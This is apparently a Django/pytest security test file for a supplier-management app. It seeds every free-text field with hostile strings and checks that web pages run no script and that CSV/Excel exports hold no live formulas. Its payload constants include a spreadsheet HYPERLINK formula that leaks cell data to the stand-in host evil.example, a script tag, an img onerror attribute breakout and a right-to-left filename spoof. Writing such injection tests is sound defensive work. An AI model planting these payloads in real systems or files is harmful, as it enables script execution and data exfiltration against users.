"""Hostile text in every field a person can type into: a spreadsheet formula, a script, markup
that breaks out of an attribute, a right-to-left override and a very long string. Every page
that shows them is opened in Chromium (nothing runs) and every export that writes them is read
back (no cell a spreadsheet would evaluate)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from plans.models import CategoryPlan, PlanObjective
from spend.models import SpendLine
from spend.summary import refresh_spend_summary
from stakeholders.models import AgreementMeasure, EngagementEntry, SurveyResponse
from suppliers.models import (
    Contract,
    GovernanceMeeting,
    RelationshipAction,
    RelationshipPlan,
    Supplier,
    SupplierEngagement,
    SupplierIdea,
    SupplierRisk,
)
from tests.factories import add_agreement, add_survey_round
from tests.plans.plan_builders import make_plan

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SCRIPT = "<script>window.__pwned=1</script>"
ATTRIBUTE = '"><img src=x onerror="window.__pwned=1">'
RTL = "Invoice \u202eexe.fdp"
LONG = "A very long note " + "x" * 5_000
PAYLOADS = {"formula": FORMULA, "script": SCRIPT, "attribute": ATTRIBUTE, "rtl": RTL, "long": LONG}

# Fields that are codes or keys the user picks from a list, not text they type.
NOT_FREE_TEXT = {"code", "country", "segment", "normalised_name", "kind", "status", "stage"}


def poison(instance, payload: str):
    """Every free-text field of `instance` set to the payload (cut to the column's length, as a
    form would refuse longer text), then saved."""
    for field in instance._meta.concrete_fields:
        if (
            isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and field.editable
            and field.name not in NOT_FREE_TEXT
        ):
            setattr(
                instance, field.name, payload[: field.max_length] if field.max_length else payload
            )
    instance.save()
    return instance


def hostile_company(company, payload):
    """The company with the payload in every free-text field the pages below show."""
    today = datetime.date(2026, 10, 15)
    supplier = poison(Supplier(country="GB"), payload)
    for unit, amount in [(company.manufacturing, "1200.00"), (company.finance, "800.00")]:
        SpendLine.objects.create(
            date=today,
            amount=Decimal(amount),
            original_amount=Decimal(amount),
            currency="GBP",
            supplier=supplier,
            category=company.hardware,
            business_unit=unit,
            description=payload[:500],
        )
    refresh_spend_summary()
    poison(company.it, payload)
    contract = poison(
        Contract(supplier=supplier, start=today, end=today.replace(year=2027), value=1000),
        payload,
    )
    contract.categories.add(company.hardware)
    poison(SupplierIdea(supplier=supplier, kind="savings", raised_on=today), payload)
    poison(SupplierRisk(supplier=supplier, likelihood=3, impact=4, raised_on=today), payload)
    poison(SupplierEngagement(supplier=supplier, date=today, minutes=60), payload)
    relationship = poison(RelationshipPlan(supplier=supplier, owner=company.manager), payload)
    poison(RelationshipAction(plan=relationship, element=1, due=today), payload)
    poison(GovernanceMeeting(plan=relationship, date=today, kind="review"), payload)
    plan = poison(make_plan(company, status=CategoryPlan.IN_REVIEW), payload)
    poison(PlanObjective(plan=plan), payload)
    for initiative in plan.initiatives.all():
        poison(initiative, payload)
    survey_round = add_survey_round(company)
    poison(survey_round, payload)
    from django.utils import timezone

    poison(
        SurveyResponse(
            round=survey_round,
            unit=company.manufacturing,
            category=company.it,
            recommend=7,
            submitted_at=timezone.now(),
        ),
        payload,
    )
    agreement = poison(add_agreement(company), payload)
    for measure in AgreementMeasure.objects.filter(agreement=agreement):
        poison(measure, payload)
    poison(EngagementEntry(unit=company.manufacturing, date=today, minutes=30), payload)
    return {"supplier": supplier, "plan": plan, "round": survey_round, "agreement": agreement}


def pages_showing_it(made):
    supplier, plan = made["supplier"], made["plan"]
    supplier_page = reverse("suppliers:detail", args=[supplier.pk])
    return [
        reverse("suppliers:list"),
        *(f"{supplier_page}?tab={tab}" for tab in ("overview", "relationship", "contracts")),
        *(f"{supplier_page}?tab={tab}" for tab in ("engagement", "ideas", "scorecards")),
        reverse("suppliers:contracts"),
        reverse("categories:list"),
        reverse("categories:detail", args=["IT"]),
        reverse("plans:plan_list"),
        reverse("plans:plan_detail", args=[plan.pk]),
        reverse("plans:plan_print", args=[plan.pk]),
        reverse("plans:initiative_edit", args=[plan.initiatives.first().pk]),
        reverse("stakeholders:rounds"),
        reverse("stakeholders:round_results", args=[made["round"].pk]),
        reverse("stakeholders:agreements"),
        reverse("stakeholders:agreement", args=[made["agreement"].pk]),
        reverse("stakeholders:engagement"),
        f"{reverse('spend:cube')}?category=IT",
        reverse("spend:cube_lines"),
    ]


def exports_showing_it(made):
    results = reverse("stakeholders:round_results", args=[made["round"].pk])
    return [
        reverse("suppliers:list"),
        reverse("suppliers:contracts"),
        reverse("categories:list"),
        reverse("plans:plan_list"),
        reverse("plans:plan_detail", args=[made["plan"].pk]),
        f"{results}?table=comments&",
        reverse("stakeholders:agreements"),
        reverse("stakeholders:engagement"),
        f"{reverse('spend:cube')}?table=suppliers&",
        reverse("spend:cube_lines"),
    ]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_text_runs_nowhere_in_the_browser(company, page, log_in, payload):
    made = hostile_company(company, payload)
    log_in("admin")
    for address in pages_showing_it(made):
        response = page.goto(address)
        assert response.status == 200, address
        assert page.evaluate("typeof window.__pwned") == "undefined", address
        ran = page.evaluate(
            """() => Array.from(document.scripts).some(s => s.text.trim() === 'window.__pwned=1')
                || document.querySelectorAll('img[onerror]').length > 0"""
        )
        assert not ran, f"executable markup from user text at {address}"


def _csv_cells(content: bytes):
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        yield from row


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_export_of_hostile_text_is_inert(company, client, payload):
    made = hostile_company(company, payload)
    client.force_login(company.administrator)
    for address in exports_showing_it(made):
        joiner = "" if address.endswith("&") else "?"
        response = client.get(f"{address}{joiner}format=csv")
        assert response.status_code == 200, address
        content = b"".join(response.streaming_content) if response.streaming else response.content
        cells = list(_csv_cells(content))
        live = [
            cell
            for cell in cells
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(cell)
        ]
        assert not live, f"{address} CSV: {live[:3]}"
        if payload in (FORMULA, SCRIPT):
            assert any(payload in cell for cell in cells), f"{address} CSV lost the text"

        response = client.get(f"{address}{joiner}format=xlsx")
        assert response.status_code == 200, address
        content = b"".join(response.streaming_content) if response.streaming else response.content
        workbook = load_workbook(io.BytesIO(content))
        formulas = [
            cell.value
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        assert not formulas, f"{address} Excel: {formulas[:3]}"
